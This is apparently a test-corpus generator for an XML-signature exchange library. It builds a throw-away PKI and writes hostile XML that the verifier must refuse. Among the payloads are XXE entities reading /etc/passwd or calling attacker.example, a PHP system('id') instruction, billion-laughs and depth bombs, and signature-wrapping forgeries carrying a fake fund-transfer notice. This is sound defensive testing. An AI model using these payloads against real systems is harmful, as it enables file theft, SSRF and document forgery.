"""Generate the hostile-input corpus of gwexchange: a throw-away test PKI, signed vectors and attack files.

Run by hand from the repository root (pytest does not collect it)::

    python tests/attacks/make_attacks.py

It rewrites, and owns, exactly these files:

* ``tests/vectors/pki/`` — the trusted test PKI, an ``Authority`` home: root (valid from 2026-01-01 for 20 years),
  signing certificates of gd.gov.office (EC P-256; a second one with an RSA-2048 key), one that EXPIRED in
  February 2026, one REVOKED for keyCompromise on 2026-06-01, an encryption certificate of gd.gov.office,
  signing certificates of gd.gov.czt and gd.gov.gxt (the joint notice) and a node certificate; the CRL is good for
  20 years. Keys are stored UNENCRYPTED: they are test vectors, never to be used for anything real.
* ``tests/vectors/attacker/`` — what an attacker holds: an unrelated root with a gd.gov.office certificate, an
  impostor root that copies the trusted root's name, a self-signed gd.gov.office certificate, and certificates
  the trusted root mis-issued (a CA certificate, and a sub-CA's end-entity certificate).
* ``tests/vectors/*.xml`` — the draft notice and the valid signed vectors, all signed at ``SIGNED_AT``.
* ``tests/attacks/*.xml`` and ``tests/attacks/index.toml`` — every hostile variant, and for each its class (see
  ``attack_class``), the exception class ``verify_document`` must raise, a substring its message must contain and
  what the attack is.

The exchange corpus (``tests/attacks/exchange/``, ``tests/vectors/exchange/``) is signed by this PKI too: after a
full run, ``make_exchange_attacks.py`` runs as well and makes it again. ``--reindex`` rewrites only index.toml
from the entries it holds (to change classes or descriptions without new keys and signatures).

Every attack is checked against the library before it is written: a file that is accepted, or refused with
another error than the one expected, is NOT written and is reported on stderr (exit status 1), so that a hole is
fixed in the library before its test lands in the corpus.

Where an attack needs a signature over a shape our profile refuses (SHA-1, XSLT, ID references, …), the
signature is computed here from the W3C specifications with the real gd.gov.office key, so that nothing but the
profile stops it; none of the XML-DSig code of gwexchange is used for that.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import json
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa, utils
from cryptography.x509.oid import NameOID
from lxml import etree

HERE = Path(__file__).resolve().parent
TESTS = HERE.parent
REPO = TESTS.parent
sys.path.insert(0, str(REPO))

from gwexchange.crypto.certificates import RevocationReason, Role, Usage  # noqa: E402
from gwexchange.crypto.certificates import issue as issue_certificate  # noqa: E402
from gwexchange.crypto.keys import KeyAlgorithm, UnsafeUnencrypted, generate_key, key_from_pem, key_to_pem  # noqa: E402
from gwexchange.crypto.trust import TrustPolicy  # noqa: E402
from gwexchange.crypto.xmldsig import Signer  # noqa: E402
from gwexchange.envelope.description import load_description_file  # noqa: E402
from gwexchange.envelope.signing import sign_document, verify_document  # noqa: E402
from gwexchange.envelope.xmlform import document_to_xml  # noqa: E402
from gwexchange.errors import GwxError  # noqa: E402
from gwexchange.pki.authority import Authority  # noqa: E402

VECTORS = TESTS / "vectors"
PKI = VECTORS / "pki"
ATTACKER = VECTORS / "attacker"
EXAMPLES = REPO / "examples"

# --- fixed facts (the test reads ``now`` from index.toml) ---------------------------------------------------

ROOT_START = datetime(2026, 1, 1, tzinfo=UTC)
LONG = timedelta(days=20 * 365)
EXPIRED_LIFETIME = timedelta(days=59)  # valid 2026-01-01 .. 2026-03-01
REVOKED_AT = datetime(2026, 6, 1, tzinfo=UTC)
SIGNED_AT = datetime(2026, 11, 20, 8, 0, 0, tzinfo=UTC)
SECOND_SIGNED_AT = datetime(2026, 11, 20, 9, 30, 0, tzinfo=UTC)
VERIFY_NOW = datetime(2026, 11, 20, 12, 0, 0, tzinfo=UTC)
TIME = "%Y-%m-%dT%H:%M:%SZ"

ROOT_CODE = "gd.gov.ca"
ROOT_NAME = "广东省电子政务安全中心（测试向量）"
OFFICE = "gd.gov.office"
OFFICE_NAME = "广东省人民政府办公厅"
CZT, CZT_NAME = "gd.gov.czt", "广东省财政厅"
GXT, GXT_NAME = "gd.gov.gxt", "广东省工业和信息化厅"
NODE, NODE_NAME = "gd-hub.gov", "广东省公文交换节点（测试向量）"
UNSAFE = UnsafeUnencrypted()

# --- XML names and W3C algorithm URIs, written out from the specifications ---------------------------------

GW_NS = "urn:gwexchange:document:1"
DS_NS = "http://www.w3.org/2000/09/xmldsig#"
GW = "{" + GW_NS + "}"
DS = "{" + DS_NS + "}"
DS11_NS = "http://www.w3.org/2009/xmldsig11#"
DS11 = "{" + DS11_NS + "}"
EVIL_NS = "urn:attacker:evil"

EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_C14N_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
INCL_C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
C14N11 = "http://www.w3.org/2006/12/xml-c14n11"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XPATH_FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5"
ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
ECDSA_SHA1 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
RSA_PSS = "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"
HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"

EVIL_TITLE = "广东省人民政府办公厅关于将专项资金紧急划拨至指定账户的通知"
EVIL_PARAGRAPH = "请各单位于当日内将专项资金划入账户 6222 0000 0000 0000，不得延误。"


# --- the PKI -------------------------------------------------------------------------------------------------


@dataclass
class Holder:
    """A private key with its certificate (and the certificate's DER, as it goes into KeyInfo)."""

    key: ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey
    cert: x509.Certificate

    @property
    def der(self) -> bytes:
        return self.cert.public_bytes(serialization.Encoding.DER)

    @property
    def signer(self) -> Signer:
        return Signer(self.key, self.cert)


def issue(
    authority: Authority,
    code: str,
    name: str,
    usage: Usage,
    *,
    role: Role = Role.DEPARTMENT,
    lifetime: timedelta = LONG,
    algorithm: KeyAlgorithm = KeyAlgorithm.EC_P256,
    stem: str | None = None,
) -> Holder:
    """Issue like ``gwx pki issue``; ``stem`` renames the files so that several certificates of one holder and
    usage can live side by side (the authority always writes ``issued/<code>/<usage>.crt``)."""
    files = authority.issue(
        code=code,
        name=name,
        role=role,
        usage=usage,
        protection=UNSAFE,
        now=ROOT_START,
        algorithm=algorithm,
        lifetime=lifetime,
    )
    cert_path, key_path = files.certificate, files.key
    if stem is not None:
        cert_path = files.certificate.rename(files.certificate.with_name(stem + ".crt"))
        key_path = files.key.rename(files.key.with_name(stem + ".key"))
    key = key_from_pem(key_path.read_bytes(), None)
    return Holder(key, x509.load_pem_x509_certificate(cert_path.read_bytes()))


def subject(code: str, name: str, role: Role) -> x509.Name:
    return x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, name),
            x509.NameAttribute(NameOID.ORGANIZATIONAL_UNIT_NAME, role.value),
            x509.NameAttribute(NameOID.USER_ID, code),
        ]
    )


def signing_key_usage(*, ca: bool = False) -> x509.KeyUsage:
    return x509.KeyUsage(
        digital_signature=True,
        content_commitment=True,
        key_encipherment=False,
        data_encipherment=False,
        key_agreement=False,
        key_cert_sign=ca,
        crl_sign=ca,
        encipher_only=False,
        decipher_only=False,
    )


def hand_made_certificate(
    key: ec.EllipticCurvePrivateKey,
    issuer_key: ec.EllipticCurvePrivateKey,
    issuer: x509.Name,
    name: x509.Name,
    *,
    ca: bool,
) -> x509.Certificate:
    """A certificate built directly with ``cryptography``, bypassing the authority's rules."""
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(issuer)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(ROOT_START)
        .not_valid_after(ROOT_START + LONG)
        .add_extension(x509.BasicConstraints(ca=ca, path_length=0 if ca else None), critical=True)
        .add_extension(signing_key_usage(ca=ca), critical=True)
        .sign(issuer_key, hashes.SHA256())
    )


def save(folder: Path, stem: str, holder: Holder) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{stem}.crt").write_bytes(holder.cert.public_bytes(serialization.Encoding.PEM))
    (folder / f"{stem}.key").write_bytes(key_to_pem(holder.key, UNSAFE))


@dataclass
class Pki:
    root_cert: x509.Certificate
    root_key: ec.EllipticCurvePrivateKey
    crl: x509.CertificateRevocationList
    office: Holder
    office_rsa: Holder
    office_expired: Holder
    office_revoked: Holder
    office_encryption: Holder
    czt: Holder
    gxt: Holder
    node: Holder
    attacker_office: Holder
    impostor_office: Holder
    self_signed_office: Holder
    ca_flag_office: Holder
    sub_ca_office: Holder

    @property
    def root(self) -> Holder:
        return Holder(self.root_key, self.root_cert)

    def trust(self) -> TrustPolicy:
        return TrustPolicy(self.root_cert, (self.crl,))


def build_pki() -> Pki:
    authority = Authority.create(PKI, code=ROOT_CODE, name=ROOT_NAME, protection=UNSAFE, now=ROOT_START)
    expired = issue(authority, OFFICE, OFFICE_NAME, Usage.SIGNING, lifetime=EXPIRED_LIFETIME, stem="signing-expired")
    revoked = issue(authority, OFFICE, OFFICE_NAME, Usage.SIGNING, stem="signing-revoked")
    office_rsa = issue(
        authority, OFFICE, OFFICE_NAME, Usage.SIGNING, algorithm=KeyAlgorithm.RSA_2048, stem="signing-rsa"
    )
    office = issue(authority, OFFICE, OFFICE_NAME, Usage.SIGNING)
    encryption = issue(authority, OFFICE, OFFICE_NAME, Usage.ENCRYPTION)
    czt = issue(authority, CZT, CZT_NAME, Usage.SIGNING)
    gxt = issue(authority, GXT, GXT_NAME, Usage.SIGNING)
    node = issue(authority, NODE, NODE_NAME, Usage.NODE, role=Role.NODE)
    authority.revoke(f"{revoked.cert.serial_number:x}", reason=RevocationReason.KEY_COMPROMISE, now=REVOKED_AT)
    # revoke() publishes a CRL good for 30 days; the vectors need one that outlives the tests.
    crl_path = authority.publish_crl(now=REVOKED_AT, lifetime=LONG)
    root_key = key_from_pem((PKI / "root.key").read_bytes(), None)
    assert isinstance(root_key, ec.EllipticCurvePrivateKey)

    # The attacker's own root, with a certificate naming gd.gov.office.
    evil = Authority.create(
        ATTACKER / "root", code="evil.example", name="攻击者自建的根证书", protection=UNSAFE, now=ROOT_START
    )
    attacker_office = issue(evil, OFFICE, OFFICE_NAME, Usage.SIGNING)
    # An impostor root that copies the trusted root's name (same issuer DN, different key).
    impostor = Authority.create(
        ATTACKER / "impostor-root", code=ROOT_CODE, name=ROOT_NAME, protection=UNSAFE, now=ROOT_START
    )
    impostor_office = issue(impostor, OFFICE, OFFICE_NAME, Usage.SIGNING)
    # A self-signed certificate naming gd.gov.office.
    office_dn = subject(OFFICE, OFFICE_NAME, Role.DEPARTMENT)
    self_key = generate_key()
    assert isinstance(self_key, ec.EllipticCurvePrivateKey)
    self_signed = Holder(self_key, hand_made_certificate(self_key, self_key, office_dn, office_dn, ca=False))
    save(ATTACKER, "self-signed-office", self_signed)
    # Certificates the trusted root mis-issued: a CA certificate naming gd.gov.office, and a sub-CA whose
    # end-entity certificate names gd.gov.office.
    ca_key = generate_key()
    assert isinstance(ca_key, ec.EllipticCurvePrivateKey)
    ca_flag = Holder(ca_key, hand_made_certificate(ca_key, root_key, authority.root.subject, office_dn, ca=True))
    save(ATTACKER, "ca-flag-office", ca_flag)
    sub_key = generate_key()
    assert isinstance(sub_key, ec.EllipticCurvePrivateKey)
    sub_ca_dn = subject("gd.gov.subca", "广东省某下级CA", Role.ROOT)
    sub_ca = Holder(sub_key, hand_made_certificate(sub_key, root_key, authority.root.subject, sub_ca_dn, ca=True))
    save(ATTACKER, "sub-ca", sub_ca)
    sub_office_key = generate_key()
    sub_office = Holder(
        sub_office_key,
        issue_certificate(
            sub_key,
            sub_ca.cert,
            sub_office_key.public_key(),
            code=OFFICE,
            name=OFFICE_NAME,
            role=Role.DEPARTMENT,
            usage=Usage.SIGNING,
            not_before=ROOT_START,
            lifetime=LONG,
            serial=x509.random_serial_number(),
        ),
    )
    save(ATTACKER, "sub-ca-office", sub_office)

    return Pki(
        root_cert=authority.root,
        root_key=root_key,
        crl=x509.load_pem_x509_crl(crl_path.read_bytes()),
        office=office,
        office_rsa=office_rsa,
        office_expired=expired,
        office_revoked=revoked,
        office_encryption=encryption,
        czt=czt,
        gxt=gxt,
        node=node,
        attacker_office=attacker_office,
        impostor_office=impostor_office,
        self_signed_office=self_signed,
        ca_flag_office=ca_flag,
        sub_ca_office=sub_office,
    )


# --- XML helpers ---------------------------------------------------------------------------------------------

_PARSER = etree.XMLParser(remove_blank_text=False, resolve_entities=False)


def parse(data: bytes) -> etree._Element:
    return etree.fromstring(data, _PARSER)


def serialize(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def c14n(element: etree._Element, *, exclusive: bool = True, comments: bool = False) -> bytes:
    return etree.tostring(element, method="c14n", exclusive=exclusive, with_comments=comments)


def enveloped_exc_c14n(root: etree._Element, signature: etree._Element) -> bytes:
    """The enveloped-signature transform then exclusive C14N 1.0, on a copy: ``signature`` is dropped, the text
    after it stays in the document (XPath data model)."""
    parent = signature.getparent()
    assert parent is not None
    tail = signature.tail
    previous = signature.getprevious()
    if tail:
        if previous is not None:
            previous.tail = (previous.tail or "") + tail
        else:
            parent.text = (parent.text or "") + tail
    index = parent.index(signature)
    parent.remove(signature)
    try:
        return c14n(root)
    finally:
        parent.insert(index, signature)
        signature.tail = tail
        if tail:
            if previous is not None:
                previous.tail = previous.tail[: -len(tail)] if previous.tail else None
            else:
                parent.text = parent.text[: -len(tail)] if parent.text else None


def signature_blocks(root: etree._Element) -> list[etree._Element]:
    """The trailing Signing and ds:Signature children of the document element, in order."""
    children = list(root)
    i = len(children)
    while i >= 2 and children[i - 1].tag == DS + "Signature" and children[i - 2].tag == GW + "Signing":
        i -= 2
    return children[i:]


def without_blocks(root: etree._Element) -> etree._Element:
    """A deep copy of a document with its signature blocks removed: the content the signatures cover."""
    clone = copy.deepcopy(root)
    for element in signature_blocks(clone):
        clone.remove(element)
    return clone


def blocks_copy(root: etree._Element) -> list[etree._Element]:
    return [copy.deepcopy(e) for e in signature_blocks(root)]


def evil_content(root: etree._Element) -> etree._Element:
    """The attacker's document: the original's content (no signatures) with another title and first paragraph."""
    clone = without_blocks(root)
    clone.find(GW + "Title").text = EVIL_TITLE
    clone.find(GW + "Body").find(GW + "P").text = EVIL_PARAGRAPH
    return clone


def first(root: etree._Element, path: str) -> etree._Element:
    element = root.find(path)
    assert element is not None, path
    return element


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


# --- signatures computed from the specification, for shapes the profile refuses -----------------------------


def digest_of(algorithm: str, data: bytes) -> bytes:
    name = {SHA256: "sha256", SHA1: "sha1", MD5: "md5"}[algorithm]
    return hashlib.new(name, data, usedforsecurity=False).digest()


def signature_value(method: str, key: object, data: bytes, *, hmac_key: bytes = b"") -> bytes:
    """The XML-DSig SignatureValue of ``data``: raw r‖s for ECDSA (RFC 4051), PKCS#1 for RSA, HMAC bytes."""
    if method in (ECDSA_SHA256, ECDSA_SHA1):
        assert isinstance(key, ec.EllipticCurvePrivateKey)
        digest = hashes.SHA256() if method == ECDSA_SHA256 else hashes.SHA1()  # noqa: S303 - the attack
        r, s = utils.decode_dss_signature(key.sign(data, ec.ECDSA(digest)))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")
    if method in (RSA_SHA256, RSA_SHA1):
        assert isinstance(key, rsa.RSAPrivateKey)
        digest = hashes.SHA256() if method == RSA_SHA256 else hashes.SHA1()  # noqa: S303 - the attack
        return key.sign(data, padding.PKCS1v15(), digest)
    if method == RSA_PSS:
        assert isinstance(key, rsa.RSAPrivateKey)
        return key.sign(data, padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=32), hashes.SHA256())
    if method in (HMAC_SHA1, HMAC_SHA256):
        return hmac.new(hmac_key, data, "sha1" if method == HMAC_SHA1 else "sha256").digest()
    raise AssertionError(method)


Hook = Callable[[etree._Element], None]


@dataclass
class Shape:
    """What the signature looks like; the defaults are exactly our profile."""

    c14n: str = EXC_C14N
    method: str = ECDSA_SHA256
    uri: str | None = ""
    transforms: tuple[tuple[str, Hook | None], ...] = ((ENVELOPED, None), (EXC_C14N, None))
    digest: str = SHA256
    certificates: tuple[bytes, ...] | None = None  # DER; None: the signer's own certificate
    hmac_key: bytes = b""
    # Called on the finished Signature element before the digest and signature value are computed.
    before_signing: Hook | None = None
    # What the reference's digest is computed over; None: the enveloped document.
    digest_input: Callable[[etree._Element, etree._Element], bytes] | None = None


def sign_shape(
    root: etree._Element,
    signer: Holder,
    shape: Shape | None = None,
    *,
    department: str = OFFICE,
    time: str | None = None,
) -> etree._Element:
    """Append a Signing element and a signature of ``shape`` to ``root``, computed with ``signer``'s key."""
    shape = shape or Shape()
    etree.SubElement(root, GW + "Signing", department=department, time=time or SIGNED_AT.strftime(TIME))
    signature = etree.SubElement(root, DS + "Signature", nsmap={"ds": DS_NS})
    signed_info = etree.SubElement(signature, DS + "SignedInfo")
    etree.SubElement(signed_info, DS + "CanonicalizationMethod", Algorithm=shape.c14n)
    etree.SubElement(signed_info, DS + "SignatureMethod", Algorithm=shape.method)
    reference = etree.SubElement(signed_info, DS + "Reference")
    if shape.uri is not None:
        reference.set("URI", shape.uri)
    transforms = etree.SubElement(reference, DS + "Transforms")
    for algorithm, build in shape.transforms:
        transform = etree.SubElement(transforms, DS + "Transform", Algorithm=algorithm)
        if build is not None:
            build(transform)
    etree.SubElement(reference, DS + "DigestMethod", Algorithm=shape.digest)
    digest_value = etree.SubElement(reference, DS + "DigestValue")
    value = etree.SubElement(signature, DS + "SignatureValue")
    x509_data = etree.SubElement(etree.SubElement(signature, DS + "KeyInfo"), DS + "X509Data")
    for der in shape.certificates if shape.certificates is not None else (signer.der,):
        etree.SubElement(x509_data, DS + "X509Certificate").text = b64(der)
    if shape.before_signing is not None:
        shape.before_signing(signature)
    content = (shape.digest_input or enveloped_exc_c14n)(root, signature)
    digest_value.text = b64(digest_of(shape.digest, content))
    canonical = c14n(
        signed_info, exclusive=shape.c14n in (EXC_C14N, EXC_C14N_COMMENTS), comments=shape.c14n == EXC_C14N_COMMENTS
    )
    value.text = b64(signature_value(shape.method, signer.key, canonical, hmac_key=shape.hmac_key))
    return signature


# Substrings of the messages that prove why an attack was refused.
DIGEST_CHANGED = "the document's digest does not match"
# Refused before any digest: the signature blocks must follow the order of the issuing departments.
ORDER_BROKEN = "do not follow the issuing departments"
NOT_SIGNED = "the document is not signed"
SIG_OUTSIDE = "a signature appears outside the signature blocks"
SIGNATURE_CHILDREN = "ds:Signature must contain exactly SignedInfo, SignatureValue, KeyInfo; found"
DOCTYPE_REFUSED = "XML with a DOCTYPE or entity declaration is refused"
COMMENTS_REFUSED = "XML with comments or processing instructions is refused"
URI_REFUSED = 'the reference must be URI="" (the whole document)'
NO_PARAMETERS = "algorithm element must be empty (no parameters are accepted)"


# --- the corpus ----------------------------------------------------------------------------------------------


@dataclass
class Attack:
    name: str
    data: bytes
    error: str
    message: str
    description: str


class Corpus:
    def __init__(self) -> None:
        self.attacks: list[Attack] = []

    def add(self, name: str, data: bytes | etree._Element, error: str, message: str, description: str) -> None:
        if isinstance(data, etree._Element):
            data = serialize(data)
        assert not any(a.name == name for a in self.attacks), name
        self.attacks.append(Attack(name + ".xml", data, error, message, " ".join(description.split())))


def make_draft() -> bytes:
    return document_to_xml(load_description_file(EXAMPLES / "notice.toml"))


@dataclass
class Context:
    """What every section of the corpus starts from."""

    pki: Pki
    draft: bytes
    signed: bytes
    joint: bytes
    joint_draft: bytes
    corpus: Corpus

    def __post_init__(self) -> None:
        self.original = parse(self.signed)
        self.office, self.office_rsa = self.pki.office, self.pki.office_rsa
        title = first(self.original, GW + "Title").text
        assert title is not None
        self.title = title
        self.add = self.corpus.add

    def fresh(self) -> etree._Element:
        """The draft notice, unsigned."""
        return parse(self.draft)

    def signed_copy(self) -> etree._Element:
        """The valid signed notice."""
        return parse(self.signed)

    def custom(self, shape: Shape | None = None, signer: Holder | None = None, **kw: str) -> etree._Element:
        """The draft notice signed here, in ``shape``, by ``signer`` (default: gd.gov.office)."""
        root = self.fresh()
        sign_shape(root, signer or self.office, shape, **kw)
        return root


def parser_attacks(c: Context) -> None:
    """The parser: DTDs, entities, comments, processing instructions, depth, encoding."""
    signed, title, add = c.signed, c.title, c.add
    declaration_end = signed.index(b"?>\n") + 3
    head, body_bytes = signed[:declaration_end], signed[declaration_end:]
    title_bytes = title.encode("utf-8")

    add(
        "doctype",
        head + b"<!DOCTYPE gw:Document>\n" + body_bytes,
        "XmlInputError",
        DOCTYPE_REFUSED,
        "The valid signed notice with a bare DOCTYPE in front of the document element.",
    )
    add(
        "internal-entity",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY title "'
        + EVIL_TITLE.encode()
        + b'">]>\n'
        + body_bytes.replace(title_bytes, b"&title;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "An internal entity declared in the DTD replaces the Title (entity substitution changes what is read).",
    )
    add(
        "external-entity-file",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        + body_bytes.replace(title_bytes, b"&xxe;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "XXE: an external entity SYSTEM file:///etc/passwd read into the Title.",
    )
    add(
        "external-entity-http",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY xxe SYSTEM "http://attacker.example/leak?d=gongwen">]>\n'
        + body_bytes.replace(title_bytes, b"&xxe;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "XXE / SSRF: an external entity fetched over HTTP.",
    )
    add(
        "external-parameter-entity",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n'
        + body_bytes,
        "XmlInputError",
        DOCTYPE_REFUSED,
        "Out-of-band XXE: a parameter entity that loads a remote DTD.",
    )
    add(
        "external-dtd",
        head + b'<!DOCTYPE gw:Document SYSTEM "http://attacker.example/gongwen.dtd">\n' + body_bytes,
        "XmlInputError",
        DOCTYPE_REFUSED,
        "A DOCTYPE naming an external DTD subset on an attacker's server.",
    )
    laughs = b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))) for i in range(1, 10)
    )
    add(
        "billion-laughs",
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY lol0 "lol">'
        + laughs
        + b"]>\n"
        + body_bytes.replace(title_bytes, b"&lol9;"),
        "XmlInputError",
        DOCTYPE_REFUSED,
        "Billion laughs: nested entities expanding to 10^9 copies of 'lol' in the Title.",
    )
    utf16 = (
        head
        + b'<!DOCTYPE gw:Document [<!ENTITY title "'
        + EVIL_TITLE.encode()
        + b'">]>\n'
        + body_bytes.replace(title_bytes, b"&title;")
    ).decode("utf-8")
    add(
        "utf16-hidden-doctype",
        utf16.replace("encoding='UTF-8'", "encoding='UTF-16'").encode("utf-16"),
        "XmlInputError",
        "malformed XML",
        "The internal-entity attack encoded as UTF-16, so that a byte scan for '<!DOCTYPE' finds nothing; the "
        "parser reads UTF-8 only and refuses it.",
    )
    add(
        "comment-in-title",
        body_bytes.replace(title_bytes, title_bytes.replace("办公厅".encode(), "办公厅<!---->".encode(), 1)),
        "XmlInputError",
        COMMENTS_REFUSED,
        "Comment truncation (SAML 2018): a comment splits the Title text; C14N without comments still gives the "
        "signed digest, but a reader of the first text node sees only the part before the comment.",
    )
    add(
        "comment-before-root",
        head + b"<!-- \xe5\xb7\xb2\xe5\xae\xa1\xe6\xa0\xb8 -->\n" + body_bytes,
        "XmlInputError",
        COMMENTS_REFUSED,
        "A comment before the document element (outside what C14N of the root covers).",
    )
    add(
        "processing-instruction",
        head + b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/render.xsl"?>\n' + body_bytes,
        "XmlInputError",
        COMMENTS_REFUSED,
        "A processing instruction (xml-stylesheet pointing at an attacker's server) before the document element.",
    )
    add(
        "processing-instruction-in-body",
        body_bytes.replace(b"<gw:Body>", b"<gw:Body><?php system('id'); ?>", 1),
        "XmlInputError",
        COMMENTS_REFUSED,
        "A processing instruction inside the Body.",
    )
    nest = 40
    add(
        "depth-bomb",
        body_bytes.replace(
            b"<gw:Body>",
            b"<gw:Body>" + b"<x:d xmlns:x='urn:attacker:evil'>" + b"<x:d>" * (nest - 1) + b"</x:d>" * nest,
            1,
        ),
        "XmlInputError",
        "XML is nested deeper than 32 levels",
        f"{nest} nested elements inside the Body (limit 32): refused by the parser before any digest is computed.",
    )
    nest = 5000
    add(
        "depth-bomb-deep",
        body_bytes.replace(b"<gw:Body>", b"<gw:Body>" + b"<d>" * nest + b"</d>" * nest, 1),
        "XmlInputError",
        "Excessive depth",
        f"{nest} nested elements: libxml2's own depth limit stops it while parsing.",
    )
    add(
        "truncated",
        signed[: signed.rindex(b">", 0, len(signed) // 2) + 1],
        "XmlInputError",
        "malformed XML",
        "The signed notice cut in half (after a tag).",
    )


def content_attacks(c: Context) -> None:
    """Unsigned, wrong root, content changed."""
    draft, signed, add, signed_copy = c.draft, c.signed, c.add, c.signed_copy
    title_bytes = c.title.encode("utf-8")
    add("unsigned", draft, "SignatureError", NOT_SIGNED, "The unsigned draft of the notice.")
    wrapper = etree.Element("{urn:attacker:evil}Envelope", nsmap={"evil": EVIL_NS})
    wrapper.append(signed_copy())
    add(
        "wrapper-root",
        wrapper,
        "DocumentError",
        "根元素应为 gw:Document",
        "The valid signed notice wrapped in a foreign root element.",
    )
    add(
        "title-one-byte",
        signed.replace(title_bytes, title_bytes[:-1] + bytes([title_bytes[-1] ^ 0x01]), 1),
        "SignatureError",
        DIGEST_CHANGED,
        "One byte of the Title changed (the last byte of a UTF-8 character, so the text stays valid).",
    )
    root = signed_copy()
    first(root, GW + "Signing").set("time", "2026-11-19T08:00:00Z")
    add(
        "signing-time-changed",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "The signing time in the Signing element moved a day back after signing (it is covered by the signature).",
    )
    root = signed_copy()
    first(root, GW + "Title").addprevious(copy.deepcopy(first(root, GW + "Title")))
    first(root, GW + "Title").text = EVIL_TITLE
    add(
        "duplicate-title",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "A second, forged Title inserted before the signed one (a reader taking the first sees the forgery).",
    )
    root = signed_copy()
    evil_body = copy.deepcopy(first(root, GW + "Body"))
    first(evil_body, GW + "P").text = EVIL_PARAGRAPH
    first(root, GW + "Body").addprevious(evil_body)
    add("duplicate-body", root, "SignatureError", DIGEST_CHANGED, "A forged Body inserted before the signed one.")
    root = signed_copy()
    signature_blocks(root)[-1].tail = EVIL_PARAGRAPH
    add(
        "text-after-signature",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "Text appended after </ds:Signature>: the enveloped transform keeps it in the digested document.",
    )
    root = signed_copy()
    first(root, GW + "Body").find(GW + "P").text = None
    first(root, GW + "Body").find(GW + "P").append(
        etree.fromstring(
            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        )
    )
    add(
        "xinclude",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "An XInclude of file:///etc/passwd in the first paragraph: never processed, it is only a changed document.",
    )


def wrapping_attacks(c: Context) -> None:
    """XML Signature Wrapping (Somorovsky et al. 2012, "On Breaking SAML"), adapted."""
    original, add, signed_copy = c.original, c.add, c.signed_copy
    # Our only reference is URI="" (the whole document) and the signature must be a trailing child of the
    # document element, so the ID-based moves of SAML become: attacker content at the root, the signed original
    # (or its signature) moved somewhere a careless verifier would still find it.
    root = evil_content(original)
    signing, signature = blocks_copy(original)
    signature.append(without_blocks(original))
    root.extend([signing, signature])
    add(
        "xsw1-original-inside-signature",
        root,
        "SignatureError",
        SIGNATURE_CHILDREN + " SignedInfo, SignatureValue, KeyInfo, Document",
        "XSW1: forged document at the root carrying the original Signing and Signature; the signed original "
        "sits inside ds:Signature after KeyInfo.",
    )
    root = evil_content(original)
    root.append(without_blocks(original))
    root.extend(blocks_copy(original))
    add(
        "xsw2-original-before-signature",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "XSW2: forged document at the root; the signed original is a sibling just before the copied signature.",
    )
    root = signed_copy()
    root.insert(0, evil_content(original))
    add(
        "xsw3-forged-document-first",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "XSW3: a forged gw:Document inserted as the first child of the signed original (readers of the first "
        "gw:Document / gw:Title see the forgery).",
    )
    root = evil_content(original)
    root.append(signed_copy())
    root.extend(blocks_copy(original))
    add(
        "xsw4-forged-wraps-original",
        root,
        "SignatureError",
        SIG_OUTSIDE,
        "XSW4: the forged document wraps the whole signed original (with its signature) and repeats the "
        "original's signature block at its end.",
    )
    root = evil_content(original)
    root.extend(blocks_copy(original))
    root.append(without_blocks(original))
    add(
        "xsw5-original-after-signature",
        root,
        "SignatureError",
        NOT_SIGNED,
        "XSW5: forged document with the copied signature; the signed original appended after the signature.",
    )
    root = evil_content(original)
    signing, signature = blocks_copy(original)
    etree.SubElement(signature, DS + "Object").append(signed_copy())
    root.extend([signing, signature])
    add(
